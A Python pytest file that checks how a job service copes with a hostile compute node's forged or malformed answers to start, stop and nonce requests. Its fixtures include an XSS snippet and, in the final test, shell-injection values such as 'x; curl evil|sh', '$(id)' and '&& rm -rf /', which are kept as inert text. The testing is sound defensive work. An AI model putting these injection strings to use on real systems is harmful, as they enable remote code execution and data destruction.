"""A node lies when it is asked to start or stop a job, and about its nonces."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest

from jobs.lifecycle import State
from jobs.models import Job, NonceLease
from tests.hostile.cases import Case, named
from tests.hostile.far_side import Ask, Script, says, sends
from tests.hostile.world import World, running_now, wire_job
from tests.services.fakes import STRANGER

pytestmark = pytest.mark.django_db

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
OURS = "88" * 32
LONG = f"0x60962e6d-{OURS}"


def restart(world: World) -> None:
    """Let the job at the bad node be one that was not started yet, and the node's list be empty."""
    Job.objects.filter(pk=world.victim.pk).update(
        state=State.REQUESTED, node_job_id="", node_status=None, accepted_at=None
    )
    world.victim.refresh_from_db()
    world.bad.listed = []


def start(name: str, make: Callable[[World], Any], **rest: Any) -> Case:
    """Answer a start with something that is not the job. It may be one all the same, so it is looked for."""

    def lie(world: World) -> None:
        restart(world)
        world.bad.answers["start"] = says(make(world))

    usual: dict[str, Any] = {"state": State.NEEDS_ATTENTION, "says": "never showed the job", "beats": 14}
    return Case(f"start: {name}", lie, **(usual | rest))


def accepted(world: World, **values: Any) -> dict[str, Any]:
    """Describe the job as a start answer does, with the long id."""
    return running_now(world.victim) | {"jobId": LONG} | values


STARTS = [
    start("another owner's job", lambda w: [accepted(w, owner=STRANGER)]),
    start("our job with another tag", lambda w: [accepted(w, metadata={"tag": "another"})]),
    start("another job of ours", lambda w: [accepted(w, jobId=w.job(state=State.SUCCEEDED).node_job_id)]),
    start("a list of two", lambda w: [accepted(w), accepted(w, jobId="0x60962e6d-1")]),
    start("an empty list", lambda w: []),
    start("an object", lambda w: accepted(w)),
    start("null", lambda w: None),
    start("a number", lambda w: 200),
    start("a page", lambda w: HTML),
    start("an error with status 200", lambda w: "Error: Not enough available cpu"),
    start("a list of texts", lambda w: [LONG]),
    start("no id", lambda w: [{"owner": w.wallet.address, "status": 10}]),
    start("an empty id", lambda w: [accepted(w, jobId="")]),
    start("an id that is a number", lambda w: [accepted(w, jobId=7)]),
    start("an id of 1 MB", lambda w: [accepted(w, jobId="0x1-" + "a" * 2**20)]),
    start("an id with blanks", lambda w: [accepted(w, jobId="0x1-a b\r\nc")]),
    start("no environment", lambda w: [accepted(w, environment=None)]),
    start("status as text", lambda w: [accepted(w, status="10")]),
    start("exit code 10^30", lambda w: [accepted(w, terminationDetails={"exitCode": 10**30})]),
]


@pytest.mark.parametrize("case", STARTS, ids=named)
def test_start_that_is_answered_with_a_lie_is_looked_for_and_never_sent_more_than_three_times(
    case: Case, world: World, caplog: pytest.LogCaptureFixture
) -> None:
    case.play(world, caplog)

    assert world.bad.asked.count("start") <= 3
    assert world.victim.node_job_id == ""


class TestLookingForAStart:
    @pytest.fixture
    def lost(self, world: World) -> World:
        restart(world)
        world.bad.answers["start"] = says([])
        world.run(beats=1)
        return world

    def tags(self, world: World, **values: Any) -> dict[str, Any]:
        return running_now(world.victim) | {"jobId": OURS} | values

    def test_does_not_adopt_a_strangers_job_with_our_tag(self, lost: World) -> None:
        lost.bad.listed = [self.tags(lost, owner=STRANGER)]

        lost.run(beats=2)

        lost.victim.refresh_from_db()
        assert (lost.victim.state, lost.victim.node_job_id) == (State.STARTING, "")

    def test_does_not_adopt_a_job_that_is_already_another_one_of_ours(self, lost: World) -> None:
        mine = lost.job()
        lost.bad.listed = [running_now(mine, metadata={"tag": str(lost.victim.tag)})]

        lost.run(beats=2)

        lost.victim.refresh_from_db()
        assert (lost.victim.state, lost.victim.node_job_id) == (State.STARTING, "")

    @pytest.mark.parametrize(
        "metadata", [None, [], "tag", {"tag": None}, {"tag": {"tag": 1}}, {"tag": "*"}, 7]
    )
    def test_is_not_fooled_by_odd_metadata(self, lost: World, metadata: Any) -> None:
        lost.bad.listed = [self.tags(lost, metadata=metadata)]

        lost.run(beats=1)

        lost.victim.refresh_from_db()
        assert (lost.victim.state, lost.victim.node_job_id) == (State.STARTING, "")

    def test_adopts_what_is_ours(self, lost: World, caplog: pytest.LogCaptureFixture) -> None:
        lost.bad.listed = [self.tags(lost)]

        lost.run(beats=1)

        lost.victim.refresh_from_db()
        assert (lost.victim.state, lost.victim.node_job_id) == (State.RUNNING, LONG)
        lost.assert_sound(caplog)


def nonce(name: str, answer: Any, **rest: Any) -> Case:
    """Refuse the nonce of a start, and say something odd when asked for the last one."""

    def lie(world: World) -> None:
        restart(world)
        refusal = b'"nonce: 5 is not a valid nonce"'
        world.bad.answers["start"] = lambda ask: ask.answer(refusal, status="401 Unauthorized")
        world.bad.answers["nonce"] = says(answer)

    usual: dict[str, Any] = {"state": State.STARTING, "says": "looked for before it is sent again"}
    return Case(f"nonce: {name}", lie, **(usual | rest))


PATIENT: dict[str, Any] = {"state": State.STARTING, "says": "newer request of this wallet"}
NONCES = [
    nonce("text", {"nonce": "soon"}),
    nonce("markup", {"nonce": "<script>"}),
    nonce("negative", {"nonce": -1}),
    nonce("10^30", {"nonce": 10**30}),
    nonce("2^63 - 1", {"nonce": 2**63 - 1}),
    nonce("2^53 as text", {"nonce": str(2**53)}),
    nonce("a fraction", {"nonce": 1.5}),
    nonce("true", {"nonce": True}),
    nonce("a list", {"nonce": [1]}),
    nonce("nothing", {}),
    nonce("a list of nothing", []),
    nonce("no JSON", HTML),
    nonce("digits of another script", {"nonce": "\u0661\u0662"}),
    nonce("nearly the end of numbers", {"nonce": 2**53 - 1}, **PATIENT),
    nonce("always the same", {"nonce": 5}, **PATIENT),
]


@pytest.mark.parametrize("case", NONCES, ids=named)
def test_nonce_that_is_a_lie_ends_or_delays_one_job_and_breaks_nothing(
    case: Case, world: World, caplog: pytest.LogCaptureFixture
) -> None:
    case.play(world, caplog)

    assert max(NonceLease.objects.values_list("last_nonce", flat=True)) < 2**54


def stop(name: str, script: Script, *, says: str = "Stopping failed") -> Case:
    """Answer a stop with something odd, while the list says that the job runs on."""

    def lie(world: World) -> None:
        world.bad.listed = [running_now(world.victim)]
        world.bad.answers["stop"] = script
        Job.objects.filter(pk=world.victim.pk).update(cancel_requested_at=world.clock())

    return Case(f"stop: {name}", lie, says=says)


def stopped(**values: Any) -> Script:
    """Answer a stop with a job."""

    def script(ask: Ask) -> None:
        job = wire_job(Job(node_job_id=ask.query["jobId"]), results=None, **values)
        says([job])(ask)

    return script


STOPS = [
    stop("an empty list", says([]), says=""),
    stop("null", says(None), says=""),
    stop("an object", says({"stopped": True}), says=""),
    stop("a page", says(HTML), says=""),
    stop("a text", says("stopped"), says=""),
    stop("two jobs", says([{}, {}]), says=""),
    stop("a stranger's job", stopped(owner=STRANGER), says=""),
    stop("another job, ended well", stopped(jobId="77" * 32), says=""),
    stop("this job, ended well, with results", stopped(), says=""),
    stop("status 10^30", stopped(status=10**30), says=""),
    stop("cut off", sends(b"HTTP/1.1 200 OK\r\nContent-Length: 90\r\n\r\n["), says=""),
    stop("nothing", sends(b""), says=""),
    stop("a redirect", sends(b"HTTP/1.1 307 No\r\nLocation: http://127.0.0.1:1/\r\n\r\n"), says=""),
]


@pytest.mark.parametrize("case", STOPS, ids=named)
def test_stop_that_is_answered_with_a_lie_is_only_believed_when_the_list_says_so(
    case: Case, world: World, caplog: pytest.LogCaptureFixture
) -> None:
    case.play(world, caplog)

    world.bad.listed = [wire_job(world.victim, stopRequested=True)]
    world.clock.now += timedelta(minutes=5)
    world.run(beats=2)
    world.victim.refresh_from_db()
    assert world.victim.state == State.CANCELLED


def test_start_carries_shell_characters_of_an_image_as_text_and_to_this_node_only(world: World) -> None:
    restart(world)
    evil = {
        "image": "x; curl evil|sh",
        "tag": "$(id)",
        "entrypoint": "`id`",
        "checksum": "sha256:&& rm -rf /",
    }
    Job.objects.filter(pk=world.victim.pk).update(container=evil)
    bodies: list[Any] = []

    def note(ask: Ask) -> None:
        bodies.append(ask.body)
        says([])(ask)

    world.bad.answers["start"] = note

    world.run(beats=1)

    assert bodies[0]["algorithm"]["meta"]["container"] == evil
    assert world.good.asked.count("start") == 0
